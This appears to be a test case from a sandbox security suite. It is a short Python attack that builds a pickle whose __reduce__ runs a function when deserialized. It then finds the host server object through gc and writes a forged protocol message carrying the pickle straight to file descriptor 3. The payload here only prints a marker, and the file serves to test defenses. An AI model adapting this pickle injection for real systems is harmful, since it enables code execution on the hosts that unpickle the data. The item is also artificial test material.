# /// attack
# group = "C"
# number = 40
# lesson = "02_one_step"
# outcome = "Z"
# tries = "returns arrays of objects, and sends a pickle as an array"
# reasons = { gradient_factor = "protocol", one_step = "unsupported_type" }
# hides = ["BOOM"]
# ///
# %% first
class Boom:
    def __reduce__(self):
        return (print, ("BOOM",))
# %% one_step
def one_step(x, y, t0, t1, lr):
    return np.array([Boom(), Boom()], dtype=object)
# %% gradient_factor
def gradient_factor(loss, n):
    import gc, json, os, pickle, struct
    (server,) = [x for x in gc.get_objects() if type(x).__name__ == "_Server"]
    raw = pickle.dumps(Boom())
    text = json.dumps({"id": server._callbacks.request, "value": {"t": "array", "dtype": "|O", "shape": [len(raw)]}}).encode()
    os.write(3, struct.pack("!II", len(text), len(raw)) + text + raw)
    os._exit(0)
